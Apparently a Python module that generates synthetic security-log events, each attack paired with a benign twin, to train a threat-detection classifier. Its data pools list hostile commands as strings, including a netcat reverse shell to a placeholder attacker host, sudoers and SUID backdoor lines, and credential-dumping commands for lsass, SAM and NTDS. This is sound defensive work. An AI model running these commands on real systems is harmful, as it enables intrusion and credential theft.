"""Events as meanings: what happened, apart from how any product would write it.

The hand-written families render each event in the few formats their daemon
uses, so a model trained on them alone can learn "format I know => its label,
format I don't know => benign".  Here an :class:`Event` says only what
happened (who, from where, to what, with which tool, and the outcome); the
renderers in :mod:`insyt.training.synth.render` draw its surface form at random.

Every maker returns a *pair*: an attack event and its benign twin, built from
the same draw (same user, addresses, product, tool shape) and differing only
in what decides the label, as a SOC analyst reads one line:

* logins: failed, invalid user, locked out, too many attempts => brute_force;
  succeeded or logged out => benign;
* privileges: a service account or a user giving itself admin rights, a
  denied sudo, an exploit verdict => privilege_escalation; an ordinary group
  change or an admin's routine command => benign;
* credentials: a secret store read by an odd process, a dump or cracking tool,
  a dumping verdict => credential_access; an ordinary file or program => benign;
* connections: a product's own port scan / sweep / stealth-scan verdict =>
  network_scan; an allowed or normally closed connection => benign.  A plain
  deny of ordinary traffic says nothing on its own and is never generated;
* web: a scanner's agent, a vulnerability-path probe or a scanner verdict =>
  web_scan; an exploit payload or exploit verdict => web_exploit; a web shell
  used, uploaded or found => webshell; an ordinary request (one ordinary 404
  included) => benign;
* malware: infected, quarantined, a C2 beacon blocked, a miner found =>
  malware_c2; clean, an ordinary allowed site or program => benign;
* traffic: flood, rate limit exceeded, connection limit, slow-request attack
  => dos; statistics within the normal range => benign;
* DNS: data-carrying names or a tunnelling verdict => dns_exfiltration;
  ordinary names, long CDN and DKIM names included => benign;
* mail: relay denied, spoofed sender, spam run, blocklisted client =>
  mail_abuse; delivered => benign;
* lookups: user enumeration, a refused zone transfer, a version probe =>
  recon; an ordinary lookup or a transfer to a secondary => benign.

A twin always has the same fields set as its attack (a benign threat field
reads ``none``, a benign firewall event names its allow rule), so that which
fields a line has never gives its label away.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass, fields, replace

from insyt.training.synth.core import BENIGN, Ctx
from insyt.training.synth.dns import benign_name, exfil_name
from insyt.training.synth.payloads import (
    CMDI,
    EXPLOIT_PATHS,
    LFI,
    LOG4J,
    PROBE_PATHS,
    SHELL_COMMANDS,
    SHELLSHOCK,
    SQLI,
    SSTI,
    TRAVERSAL,
    WEBSHELL_NAMES,
    WEBSHELL_PARAMS,
    XSS,
    encode,
)
from insyt.training.synth.vocab import (
    FIRST,
    GUESSED_USERS,
    RBLS,
    SCANNER_AGENTS,
    SERVICE_USERS,
    browser_agent,
    client_agent,
    domain,
    email,
    evil_host,
    fqdn,
    guessed_user,
    hostname,
    ip_any,
    ip_private,
    ip_public,
    person,
    port,
    word,
)

# Kinds: the shape of an event (which fields it has), not its label.
LOGIN = "login"
MEMBERSHIP = "membership"
ELEVATION = "elevation"
FILE = "file"
PROCESS = "process"
CONNECTION = "connection"
WEB = "web"
FILESCAN = "filescan"
OUTBOUND = "outbound"
TRAFFIC = "traffic"
DNS = "dns"
MAIL = "mail"
LOOKUP = "lookup"
KINDS = (LOGIN, MEMBERSHIP, ELEVATION, FILE, PROCESS, CONNECTION, WEB, FILESCAN, OUTBOUND,
         TRAFFIC, DNS, MAIL, LOOKUP)


@dataclass(frozen=True, slots=True)
class Event:
    """What happened.  ``outcome`` names its wording (:mod:`insyt.training.synth.wording`);
    ``category`` is the label.  ``None`` fields are not part of this event."""

    kind: str
    outcome: str
    category: str
    user: str | None = None
    actor: str | None = None
    src: str | None = None
    sport: str | None = None
    dst: str | None = None
    dport: str | None = None
    proto: str | None = None
    obj: str | None = None  # file, URL, group, query name, recipient, lookup target
    tool: str | None = None  # process, user agent, scan engine
    payload: str | None = None  # command line, request body
    method: str | None = None  # HTTP method, DNS type, SMTP stage, lookup operation
    status: str | None = None
    signature: str | None = None  # threat, rule, attack or category name
    count: str | None = None
    rate: str | None = None


FIELDS = tuple(f.name for f in fields(Event) if f.name not in ("kind", "outcome", "category"))
Pair = tuple[Event, Event]
Maker = Callable[[Ctx], Pair]

# What a benign threat or detection field says.
NO_THREAT = ("none", "-", "N/A", "clean", "null", "no threat", "None", "n/a")


def present(event: Event) -> frozenset[str]:
    return frozenset(name for name in FIELDS if getattr(event, name) is not None)


def _twin(attack: Event, outcome: str, **changes: str) -> Pair:
    """``attack`` and its benign twin: the same event but for ``changes``."""
    benign = replace(attack, outcome=outcome, category=BENIGN, **changes)
    return attack, benign


def _maybe(c: Ctx, p: float, value: str) -> str | None:
    return value if c.chance(p) else None


def _user(c: Ctx) -> str:
    """Whose login: the same pool for failures and successes, so the name never decides."""
    r = c.rng.random()
    if r < 0.5:
        return person(c.rng)
    if r < 0.7:
        return c.pick(GUESSED_USERS)
    if r < 0.85:
        return email(c.rng)
    return c.pick(SERVICE_USERS)


def _n(c: Ctx, low: int, high: int) -> str:
    return str(c.rng.randint(low, high))


# --- brute_force ---------------------------------------------------------------------

_LOGIN_SERVICES = (
    ("ssh", 22), ("https", 443), ("imap", 993), ("rdp", 3389), ("vpn", 443), ("ldap", 389),
    ("radius", 1812), ("smtp", 587), ("ftp", 21), ("sso", 443), ("pop3", 995), ("kerberos", 88),
    ("web", 8443), ("mysql", 3306), ("telnet", 23), ("oidc", 443), ("saml", 443), ("vnc", 5900),
)


def brute_force(c: Ctx) -> Pair:
    proto, dport = c.pick(_LOGIN_SERVICES)
    outcome = c.pick(("login_failed", "login_failed", "login_unknown_user", "login_locked",
                      "login_repeated"))
    count = _n(c, 3, 60) if outcome == "login_repeated" else _maybe(c, 0.3, _n(c, 1, 9))
    attack = Event(
        LOGIN, outcome, "brute_force", user=_user(c), src=ip_any(c.rng),
        sport=_maybe(c, 0.5, str(port(c.rng))), dst=hostname(c.rng), dport=str(dport),
        proto=proto, count=count,
    )
    return _twin(attack, c.pick(("login_ok", "login_ok", "login_ok", "login_ok", "logout",
                                 "password_changed", "session_expired", "mfa_ok")),
                 **({"count": "1"} if count else {}))


# --- privilege_escalation ------------------------------------------------------------

_ORDINARY_GROUPS = (
    "developers", "engineering", "marketing", "finance", "hr", "support", "vpn-users", "readonly",
    "qa", "sales", "contractors", "wiki-editors", "jira-users", "reporting", "interns", "design",
    "helpdesk-l1", "project-{w}", "team-{w}", "{w}-viewers", "printers", "staff",
)
_PRIVILEGED_GROUPS = (
    "Domain Admins", "Enterprise Admins", "Administrators", "wheel", "sudo", "root", "admin",
    "Schema Admins", "Account Operators", "sudoers", "cluster-admin", "Global Administrator",
    "Organization Owners", "superusers", "Backup Operators", "db_owner", "admins",
)
_ROUTINE_COMMANDS = (
    "systemctl restart nginx", "systemctl reload postfix", "apt-get update", "apt upgrade -y",
    "dnf check-update", "journalctl -u {w} --since today", "tail -n 100 /var/log/syslog",
    "docker ps", "kubectl get pods -n {w}", "cp /etc/{w}.conf /etc/{w}.conf.bak",
    "/usr/local/bin/deploy.sh {w}", "certbot renew", "chown -R {u}:{u} /srv/{w}",
    "systemctl status {w}", "useradd -m {p}", "passwd {p}", "mount -a", "ufw status",
    "netplan apply", "vi /etc/hosts", "less /var/log/auth.log", "du -sh /var/lib/{w}",
)
_ROOT_SHELLS = (
    "/bin/bash -i", "/bin/sh", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
    "chmod u+s /bin/bash", "cp /bin/bash /tmp/.sh && chmod 4755 /tmp/.sh",
    "usermod -aG sudo {u}", "echo '{u} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "find . -exec /bin/sh \\; -quit", "vim -c ':!/bin/sh'", "perl -e 'exec \"/bin/sh\";'",
    "/tmp/.x/rootme", "nc -e /bin/sh {evil} 4444", "passwd root",
    "awk 'BEGIN {system(\"/bin/sh\")}'", "env /bin/sh -p", "/dev/shm/.{w}",
)
# Elevation tools and the accounts they switch to.
_ELEVATORS = (
    ("sudo", ("root", "root", "postgres")), ("su", ("root",)), ("pkexec", ("root",)),
    ("doas", ("root",)), ("sudo -i", ("root",)), ("runas", ("Administrator", "SYSTEM")),
    ("Run as administrator", ("Administrator",)), ("UAC consent", ("Administrator",)),
)
_EXPLOITS = (
    "PwnKit CVE-2021-4034", "DirtyPipe CVE-2022-0847", "Exploit.Linux.DirtyCow",
    "UACBypass.FodHelper", "Token.Impersonation", "SUID.Abuse", "HiveNightmare CVE-2021-36934",
    "Exploit.Win32.PrintNightmare", "Baron Samedit CVE-2021-3156", "Juicy Potato",
    "Looney Tunables CVE-2023-4911", "Kernel.Exploit.Generic", "PrivEsc.SeImpersonate",
)
_SERVICE_ACCOUNTS = ("www-data", "apache", "nginx", "tomcat", "postgres", "mysql", "jenkins",
                     "nobody", "redis", "node", "git", "daemon", "IIS APPPOOL\\DefaultAppPool",
                     "NT AUTHORITY\\NETWORK SERVICE", "svc_web", "ftp")


def _fill(c: Ctx, template: str, user: str = "") -> str:
    return (template.replace("{w}", word(c.rng)).replace("{p}", person(c.rng))
            .replace("{u}", user or person(c.rng)).replace("{evil}", evil_host(c.rng)))


def privilege_escalation(c: Ctx) -> Pair:
    r = c.rng.random()
    if r < 0.35:  # group change: into a privileged group by oneself or a service account
        user = c.pick((person(c.rng), c.pick(_SERVICE_ACCOUNTS)))
        self_grant = c.chance(0.5)
        attack = Event(
            MEMBERSHIP, "priv_group_grant" if self_grant else "group_add", "privilege_escalation",
            user=user, actor=user if self_grant else c.pick(_SERVICE_ACCOUNTS),
            obj=c.pick(_PRIVILEGED_GROUPS), src=_maybe(c, 0.4, ip_private(c.rng)),
        )
        return _twin(attack, "group_add", actor=person(c.rng),
                     obj=_fill(c, c.pick(_ORDINARY_GROUPS)))
    svc = c.pick(_SERVICE_ACCOUNTS)
    admin = person(c.rng)
    routine = _fill(c, c.pick(_ROUTINE_COMMANDS), admin)
    tool, targets = c.pick(_ELEVATORS)
    base = Event(
        ELEVATION, "elev_ok", "privilege_escalation", user=svc, obj=c.pick(targets), tool=tool,
        payload=_fill(c, c.pick(_ROOT_SHELLS), svc),
        src=_maybe(c, 0.3, ip_any(c.rng)),
    )
    if r < 0.55:  # a service account's root shell, said plainly or not
        attack = replace(base, outcome=c.pick(("elev_root_shell", "elev_ok")))
    elif r < 0.8:
        attack = replace(base, outcome="elev_denied", user=c.pick((svc, person(c.rng))))
    else:
        attack = replace(base, outcome="elev_exploit", signature=c.pick(_EXPLOITS))
    changes = {"user": admin, "payload": routine}
    if attack.signature:
        changes["signature"] = c.pick(NO_THREAT)
    return _twin(attack, "elev_ok", **changes)


# --- credential_access ---------------------------------------------------------------

# Pools by platform (False: Unix, True: Windows), so that a line never mixes them.
_SECRETS = {
    False: ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/home/{p}/.ssh/id_ed25519",
            "/var/lib/sss/db/cache_{w}.ldb", "/home/{p}/.aws/credentials", "/etc/krb5.keytab",
            "/root/.kube/config", "/home/{p}/.mozilla/firefox/{w}.default/logins.json",
            "/home/{p}/.git-credentials", "sshd process memory (/proc/{n}/mem)",
            "/etc/ssl/private/{w}.key", "/home/{p}/.password-store/{w}.gpg"),
    True: ("C:\\Windows\\System32\\config\\SAM", "C:\\Windows\\NTDS\\ntds.dit",
           "C:\\Windows\\System32\\config\\SECURITY", "lsass.exe",
           "C:\\Users\\{p}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
           "C:\\Users\\{p}\\AppData\\Roaming\\Microsoft\\Credentials\\{h}",
           "C:\\Users\\{p}\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\{w}\\logins.json",
           "C:\\Windows\\Panther\\Unattend.xml"),
}
_ORDINARY_FILES = {
    False: ("/var/www/html/index.php", "/home/{p}/Documents/report.odt", "/etc/hosts",
            "/etc/resolv.conf", "/srv/share/finance/q{n}.csv", "/var/log/nginx/access.log",
            "/opt/{w}/config.yaml", "/tmp/upload_{n}.png", "/home/{p}/.bashrc",
            "/etc/nginx/nginx.conf", "/srv/backup/{w}.tar.gz", "/usr/share/doc/{w}/README",
            "/home/{p}/.ssh/known_hosts", "/etc/passwd", "/var/lib/{w}/state.json"),
    True: ("C:\\Users\\{p}\\Desktop\\notes.txt", "\\\\fileserver\\projects\\{w}\\plan.pdf",
           "C:\\ProgramData\\{w}\\settings.xml", "C:\\Users\\{p}\\Documents\\report.docx",
           "D:\\Shares\\Finance\\q{n}.xlsx", "C:\\Windows\\System32\\drivers\\etc\\hosts",
           "C:\\Program Files\\{w}\\{w}.exe.config"),
}
_SECRET_READERS = {
    False: ("cat", "cp", "python3", "curl", "base64", "xxd", "nc", "perl", "strings", "scp"),
    True: ("powershell.exe", "rundll32.exe", "reg.exe", "esentutl.exe", "{w}.exe",
           "certutil.exe", "cmd.exe", "python.exe"),
}
_READERS = {
    False: ("vim", "less", "cat", "python3", "java", "nginx", "backup-agent", "rsync", "tar",
            "code", "bash", "php-fpm"),
    True: ("explorer.exe", "WINWORD.EXE", "EXCEL.EXE", "notepad.exe", "Code.exe",
           "MsMpEng.exe", "OneDrive.exe", "backup-agent.exe"),
}
_DUMP_COMMANDS = {
    False: ("john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes.txt",
            "hashcat -m 1800 shadow.hashes wordlist.txt -r best64.rule",
            "unshadow /etc/passwd /etc/shadow > /tmp/h", "secretsdump.py -just-dc {w}/{p}@dc01",
            "python3 pypykatz lsa minidump lsass.dmp", "kerberoast.py -d {w}.local",
            "gdb -p {n} -batch -ex 'dump memory /tmp/sshd.mem'", "mimipenguin.sh",
            "hashcat -m 1000 -a 0 ntlm.txt rockyou.txt", "find / -name id_rsa -o -name '*.kdbx'"),
    True: ("procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp",
           "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Temp\\out.dmp full",
           "reg.exe save HKLM\\SAM C:\\Temp\\sam.save",
           "reg save HKLM\\SYSTEM C:\\Temp\\system.save",
           'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Temp\\ntds" q q',
           'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
           "lazagne.exe all -oN", "gsecdump.exe -a", "Rubeus.exe kerberoast /outfile:hashes.txt",
           "vssadmin create shadow /for=C: && copy \\\\?\\GLOBALROOT\\Device\\"
           "HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Temp"),
}
_ORDINARY_COMMANDS = {
    False: ("python3 manage.py migrate", "tar czf /srv/backup/{w}.tgz /srv/{w}",
            "rsync -a /srv/www/ backup:/srv/www/", "java -jar /opt/{w}/app.jar",
            "git pull --ff-only", "npm ci", "systemctl status nginx", "du -sh /var/log",
            "crontab -l", "ls -la /srv/{w}", "make -j8", "pg_dump -Fc {w}",
            "ssh-keygen -t ed25519", "openssl req -new -key {w}.key -out {w}.csr",
            "zip -r {w}.zip docs/"),
    True: ("WINWORD.EXE /n C:\\Users\\{p}\\report.docx", "powershell.exe Get-Service",
           "chrome.exe --type=renderer", "Teams.exe", "msiexec.exe /i C:\\Temp\\{w}.msi /qn",
           "robocopy C:\\Data \\\\nas\\backup /MIR", "gpupdate /force", "ipconfig /all",
           "EXCEL.EXE C:\\Users\\{p}\\q{n}.xlsx", "sqlcmd -S localhost -Q \"SELECT 1\""),
}
# What an endpoint product calls what it saw, by the first word of the evidence that matches.
_DUMP_SIGNATURES = (
    ("mimikatz", ("HackTool.Mimikatz", "Mimikatz")),
    ("lsass", ("LSASS.MemoryDump", "LSASS Memory Access", "Credential Dumping (T1003.001)")),
    ("minidump", ("LSASS.MemoryDump", "Credential Dumping (T1003.001)")),
    ("\\sam", ("SAM.HiveExport", "Credential Dumping (T1003.002)")),
    ("\\security", ("LSA.SecretsExport", "SAM.HiveExport")),
    ("ntds", ("NTDS.Extraction", "Credential Dumping (T1003.003)")),
    ("secretsdump", ("DCSync", "Impacket.Secretsdump")),
    ("lazagne", ("HackTool.LaZagne",)),
    ("kerberoast", ("Kerberoasting", "HackTool.Rubeus")),
    ("john --", ("PasswordCracker.John", "HackTool.JohnTheRipper")),
    ("hashcat ", ("HackTool.Hashcat", "Password Cracking")),
    ("mimipenguin", ("HackTool.MimiPenguin",)),
    ("shadow", ("Sensitive File Access", "Credential.Theft.Generic", "Shadow File Read")),
    ("", ("Credential.Theft.Generic", "Credential File Access", "Unsecured Credentials (T1552)",
          "HackTool.Generic")),
)


def _dump_signature(c: Ctx, evidence: str) -> str:
    lower = evidence.lower()
    for needle, names in _DUMP_SIGNATURES:
        if needle in lower:
            return c.pick(names)
    raise AssertionError("the last entry matches everything")


def _expand(c: Ctx, template: str) -> str:
    return (template.replace("{p}", person(c.rng)).replace("{w}", word(c.rng))
            .replace("{n}", _n(c, 2, 9999)).replace("{h}", f"{c.rng.getrandbits(64):016X}"))


def credential_access(c: Ctx) -> Pair:
    windows = c.chance(0.45)
    user = c.pick((person(c.rng), "SYSTEM", f"CORP\\{person(c.rng)}") if windows else
                  (person(c.rng), c.pick(SERVICE_USERS), "root"))
    host = _maybe(c, 0.4, hostname(c.rng))
    if c.chance(0.5):
        attack = Event(FILE, "file_read", "credential_access", user=user,
                       tool=_expand(c, c.pick(_SECRET_READERS[windows])),
                       obj=_expand(c, c.pick(_SECRETS[windows])), dst=host)
        if c.chance(0.4):
            attack = replace(attack, outcome="cred_dump_detected",
                             signature=_dump_signature(c, attack.obj or ""))
        changes = {"tool": c.pick(_READERS[windows]),
                   "obj": _expand(c, c.pick(_ORDINARY_FILES[windows]))}
    else:
        command = _expand(c, c.pick(_DUMP_COMMANDS[windows]))
        attack = Event(PROCESS, "process_start", "credential_access", user=user,
                       tool=command.split(" ", 1)[0], payload=command, dst=host)
        if c.chance(0.4):
            attack = replace(attack, outcome="cred_dump_detected",
                             signature=_dump_signature(c, command))
        benign_command = _expand(c, c.pick(_ORDINARY_COMMANDS[windows]))
        changes = {"tool": benign_command.split(" ", 1)[0], "payload": benign_command}
    if attack.signature:
        changes["signature"] = c.pick(NO_THREAT)
    return _twin(attack, "file_read" if attack.kind == FILE else "process_start", **changes)


# --- network_scan --------------------------------------------------------------------

_SERVICE_PORTS = (22, 80, 443, 53, 123, 993, 587, 3389, 445, 8080, 8443, 5432, 3306, 25, 389)
_SCAN_SIGNATURES = {
    "portscan": ("TCP Port Scan", "UDP Port Scan", "Port Sweep", "Nmap Scan", "Masscan Probe",
                 "Port Scan", "TCP SYN Scan", "Vertical Port Scan", "Service Discovery Scan"),
    "hostsweep": ("ICMP Sweep", "Host Sweep", "IP Sweep", "Ping Sweep", "Horizontal Scan",
                  "ARP Sweep", "TCP Host Sweep"),
    "stealth_scan": ("TCP XMAS Scan", "TCP NULL Scan", "TCP FIN Scan", "SYN-FIN Packet",
                     "Invalid TCP Flags", "Nmap OS Fingerprint", "TCP Maimon Scan"),
}
_ALLOW_RULES = ("allow-https-out", "Default Allow", "web-servers-in", "permit_dns",
                "allow_internal", "LAN-to-WAN", "rule-{n}", "Allow_Office365", "mgmt-ssh",
                "accept-established", "outbound-general", "vpn-users-allow", "policy {n}")


def network_scan(c: Ctx) -> Pair:
    kind = c.pick(tuple(_SCAN_SIGNATURES))
    protos = {"portscan": ("TCP", "TCP", "UDP", "tcp"), "hostsweep": ("ICMP", "TCP", "icmp"),
              "stealth_scan": ("TCP", "tcp")}
    proto = c.pick(protos[kind])
    attack = Event(
        CONNECTION, kind, "network_scan", src=ip_any(c.rng), sport=str(port(c.rng)),
        dst=c.pick((ip_private(c.rng), ip_public(c.rng))), dport=str(c.pick(_SERVICE_PORTS)),
        proto=proto, signature=c.pick(_SCAN_SIGNATURES[kind]),
        count=_maybe(c, 0.6, _n(c, 20, 5000)),
    )
    return _twin(attack, c.pick(("conn_allowed", "conn_allowed", "conn_closed", "conn_timeout")),
                 signature=_expand(c, c.pick(_ALLOW_RULES)),
                 **({"count": _n(c, 1, 400)} if attack.count else {}))


# --- web: scan, exploit, webshell ----------------------------------------------------

_ORDINARY_PATHS = (
    "/", "/static/app.js", "/assets/css/main.css", "/images/logo.png", "/api/v1/orders",
    "/products/{n}", "/blog/{w}-{w2}", "/login", "/cart", "/account/settings", "/about",
    "/index.php", "/docs/{w}.html", "/api/v2/users/{n}/profile", "/js/vendor.min.js",
    "/fonts/inter.woff2", "/news/{n}", "/search", "/checkout", "/feed.xml", "/contact",
)
_ORDINARY_404 = ("/favicon.ico", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
                 "/old-page.html", "/blog/{w}-{w2}", "/images/banner_{n}.jpg", "/robots.txt")
_PARAMS = ("id", "q", "search", "page", "file", "path", "url", "redirect", "cat", "item", "name",
           "user", "lang", "template", "sort", "ref", "view", "next", "doc", "host")
_ORDINARY_VALUES = ("{n}", "{w}", "{w}+{w2}", "asc", "en", "de", "{w}.pdf", "/home",
                    "https://{site}/", "2", "{w}-{w2}", "summer sale", "report.pdf")
_UPLOAD_DIRS = ("/wp-content/uploads/{n}/0{d}/", "/uploads/", "/images/", "/assets/files/",
                "/sites/default/files/", "/media/", "/upload/tmp/", "/files/", "/userfiles/")
_UPLOAD_HANDLERS = ("/upload.php", "/wp-admin/async-upload.php", "/api/upload",
                    "/admin/media/upload", "/fileupload", "/index.php?route=tool/upload",
                    "/user/avatar", "/ckeditor/upload")
_UPLOADED = ("photo_{n}.jpg", "avatar.png", "report.pdf", "IMG_{n}.jpeg", "banner.gif",
             "invoice_{n}.pdf", "logo.svg", "doc_{n}.docx")
# Paths only attackers ask for; PROBE_PATHS minus those real clients request too.
_NOT_PROBES = frozenset({
    "/wp-login.php", "/wp-admin/", "/admin/", "/admin/login", "/user/login", "/login.action",
    "/.well-known/security.txt", "/.well-known/openid-configuration", "/actuator/health",
    "/graphql", "/crossdomain.xml", "/clientaccesspolicy.xml", "/readme.html", "/license.txt",
    "/api/swagger.json", "/swagger-ui.html", "/user/password", "/owa/auth/logon.aspx",
    "/remote/login", "/global-protect/login.esp", "/autodiscover/autodiscover.xml",
    "/?author=1", "/?author=2", "/old/", "/new/", "/demo/", "/test/", "/dev/", "/console/",
    "/administrator/", "/typo3/", "/sdk", "/v2/api-docs", "/CHANGELOG.txt", "/RELEASE_NOTES.txt",
    "/magento_version", "/package.json", "/composer.json", "/xmlrpc.php", "/wp-json/wp/v2/users",
    "/wp-includes/wlwmanifest.xml", "/blog/wp-includes/wlwmanifest.xml", "/currentsetting.htm",
})
_PROBES = tuple(p for p in PROBE_PATHS if p not in _NOT_PROBES)
# Agents that name a web scanner (port scanners' agents are network_scan, see web.py).
_SCANNER_WORDS = ("nikto", "sqlmap", "wpscan", "gobuster", "dirbuster", "fuzz faster", "nuclei",
                  "acunetix", "netsparker", "w3af", "openvas", "nessus", "zmeu", "feroxbuster",
                  "wfuzz", "dirsearch", "arachni", "whatweb", "qualys", "commix", "xss-scanner",
                  "morfeus", "jorgee", "katana", "httpx")
_SCANNER_UAS = tuple(a for a in SCANNER_AGENTS if any(w in a.lower() for w in _SCANNER_WORDS))
_WAF_SCAN = ("Scanner Detection", "Bad Bot", "Known Scanner User-Agent", "Forced Browsing",
             "Directory Brute Force", "Vulnerability Scanner", "Automated Tool")
_PAYLOADS = (
    (SQLI, "SQL Injection"), (XSS, "Cross-Site Scripting"), (TRAVERSAL, "Path Traversal"),
    (LFI, "Remote File Inclusion"), (CMDI, "OS Command Injection"),
    (SSTI, "Server-Side Template Injection"), (LOG4J, "Log4Shell JNDI Injection"),
)
_UA_PAYLOADS = ((LOG4J, "Log4Shell JNDI Injection"), (SHELLSHOCK, "Shellshock"))
_WAF_SHELL = ("Webshell Access", "PHP Backdoor", "Web Shell Command Execution",
              "China Chopper", "Malicious File Upload")


def _fill_web(c: Ctx, template: str) -> str:
    return (template.replace("{w2}", word(c.rng)).replace("{w}", word(c.rng))
            .replace("{n}", _n(c, 1, 99999)).replace("{d}", _n(c, 1, 9))
            .replace("{site}", fqdn(c.rng)))


def _payload(c: Ctx, pool: tuple[str, ...]) -> str:
    return c.fill(c.pick(pool))


def _web_base(c: Ctx, category: str) -> Event:
    return Event(
        WEB, "web_request", category, src=ip_any(c.rng), dst=_maybe(c, 0.6, fqdn(c.rng)),
        method=c.pick(("GET", "GET", "GET", "POST", "HEAD")),
        obj=_fill_web(c, c.pick(_ORDINARY_PATHS)),
        status=c.pick(("200", "200", "200", "304", "301", "302")), tool=browser_agent(c.rng),
        sport=_maybe(c, 0.2, str(port(c.rng))),
    )


def _verdict(c: Ctx, attack: Event, outcome: str, names: tuple[str, ...]) -> Event:
    """The same request as a WAF reports it when a rule matched."""
    return replace(attack, outcome=outcome, signature=c.pick(names),
                   status=c.pick(("403", "403", "406", "200", "400")))


def _web_twin(c: Ctx, base: Event, attack: Event) -> Pair:
    """The benign twin keeps the attack's client and shape, with ordinary content."""
    changes = {name: getattr(base, name) for name in ("obj", "tool", "method", "status")}
    if attack.signature:
        changes["signature"] = c.pick(NO_THREAT)
    if attack.payload:
        changes["payload"] = f"{c.pick(_PARAMS)}={_fill_web(c, c.pick(_ORDINARY_VALUES))}"
    if c.chance(0.2):  # one ordinary miss is not a scan
        changes.update(obj=_fill_web(c, c.pick(_ORDINARY_404)), status="404")
    outcome = "waf_pass" if attack.signature else "web_request"
    return _twin(attack, outcome, **{k: v for k, v in changes.items() if v is not None})


def web_scan(c: Ctx) -> Pair:
    base = _web_base(c, "web_scan")
    if c.chance(0.5):  # the scanner says who it is
        attack = replace(base, tool=c.pick(_SCANNER_UAS).format(
            a=c.rng.randint(0, 9), b=c.rng.randint(0, 12), n=_n(c, 1000, 9999)))
    else:  # a path only a scanner asks for
        attack = replace(base, obj=c.fill(c.pick(_PROBES)),
                         status=c.pick(("404", "404", "403", "200", "301")),
                         tool=c.pick((browser_agent(c.rng), client_agent(c.rng))))
    if c.chance(0.25):
        attack = _verdict(c, attack, "waf_scan", _WAF_SCAN)
    return _web_twin(c, base, attack)


def web_exploit(c: Ctx) -> Pair:
    base = _web_base(c, "web_exploit")
    r = c.rng.random()
    param = c.pick(_PARAMS)
    if r < 0.55:  # the payload in a query parameter; the twin sends an ordinary value
        pool, name = c.pick(_PAYLOADS)
        value = encode(_payload(c, pool), c.rng) if c.chance(0.6) else _payload(c, pool)
        path = base.obj or "/"
        attack = replace(base, obj=f"{path}?{param}={value}")
        ordinary = _fill_web(c, c.pick(_ORDINARY_VALUES)).replace(" ", "+")
        base = replace(base, obj=f"{path}?{param}={ordinary}")
    elif r < 0.7:
        pool, name = c.pick(_UA_PAYLOADS)
        attack = replace(base, tool=_payload(c, pool))
    elif r < 0.85:
        name = "Known CVE Exploit"
        attack = replace(base, obj=c.fill(c.pick(EXPLOIT_PATHS)))
    else:  # the payload in a form body
        pool, name = c.pick(_PAYLOADS)
        attack = replace(base, method="POST", payload=f"{param}={_payload(c, pool)}")
        base = replace(base, method="POST")
    attack = replace(attack, status=c.pick(("200", "500", "404", "403", "400", "302")))
    if c.chance(0.3):
        attack = _verdict(c, attack, "waf_exploit", (name, name, "Generic Attack",
                                                     "Injection Attempt"))
    return _web_twin(c, base, attack)


def webshell(c: Ctx) -> Pair:
    base = _web_base(c, "webshell")
    folder = _fill_web(c, c.pick(_UPLOAD_DIRS))
    base = replace(base, obj=folder + _fill_web(c, c.pick(_UPLOADED)))
    shell = folder + c.pick(WEBSHELL_NAMES)
    command = c.fill(c.pick(SHELL_COMMANDS))
    r = c.rng.random()
    if r < 0.5:  # the shell is used
        arg = encode(command, c.rng) if c.chance(0.7) else base64.b64encode(
            command.encode()).decode()
        attack = replace(base, obj=f"{shell}?{c.pick(WEBSHELL_PARAMS)}={arg}",
                         status=c.pick(("200", "200", "500")))
    elif r < 0.75:  # the shell is uploaded
        attack = replace(base, method="POST", obj=c.pick(_UPLOAD_HANDLERS),
                         payload=f'filename="{c.pick(WEBSHELL_NAMES)}"', status="200")
        base = replace(base, method="POST", obj=attack.obj,
                       payload=f'filename="{_fill_web(c, c.pick(_UPLOADED))}"')
    else:  # commands sent in the body; the twin posts an ordinary form
        attack = replace(base, method="POST", obj=shell, status="200",
                         payload=f"{c.pick(WEBSHELL_PARAMS)}={command}")
        base = replace(base, method="POST", obj=_fill_web(c, c.pick(_ORDINARY_PATHS)))
    if c.chance(0.25):
        attack = _verdict(c, attack, "webshell_detected", _WAF_SHELL)
    if c.chance(0.2):  # a file scanner finds it on disk instead
        path = f"/var/www/{c.pick(('html', fqdn(c.rng)))}{shell}"
        clean = f"/var/www/html{base.obj}"
        return _filescan(c, "webshell", "webshell_found", _WEBSHELL_THREATS, path, clean)
    return _web_twin(c, base, attack)


# --- malware_c2 ----------------------------------------------------------------------

_THREATS = (
    "Trojan.GenericKD.{n}", "Win32/Emotet.A", "Backdoor.Linux.Mirai.b", "JS:Trojan.Cryxos.{n}",
    "Ransom.WannaCry", "W97M.Downloader", "HEUR:Trojan.Script.Generic", "Trojan:Win32/AgentTesla",
    "Linux.Trojan.Tsunami", "Exploit.CVE-2017-11882", "Worm.Win32.Phorpiex", "Trojan.Qakbot",
    "Backdoor.Win64.CobaltStrike", "Trojan-Downloader.Win32.Agent", "Virus.Win32.Sality.AT",
    "PUA.Win.Packer.Upx", "Trojan.Linux.XorDDoS", "Trojan.PDF.Phishing", "RAT.AsyncRAT",
    "Win.Malware.Redline-{n}", "Doc.Dropper.Agent-{n}", "Unix.Trojan.Gafgyt",
)
_WEBSHELL_THREATS = ("PHP.Webshell.C99", "Backdoor.PHP.WSO", "JSP.Webshell.Behinder",
                     "ASP.ChinaChopper", "Php.Trojan.WebShell-{n}", "Backdoor:PHP/Remoteshell",
                     "Webshell.PHP.Generic", "Backdoor.ASPX.Godzilla")
_ENGINES = ("on-access scanner", "realtime", "scheduled scan", "mail scanner", "ICAP",
            "web gateway", "clamd", "endpoint agent", "full scan", "upload filter", "quick scan")
_SCANNED = (
    "/home/{p}/Downloads/{w}.exe", "C:\\Users\\{p}\\Downloads\\invoice_{n}.pdf.exe",
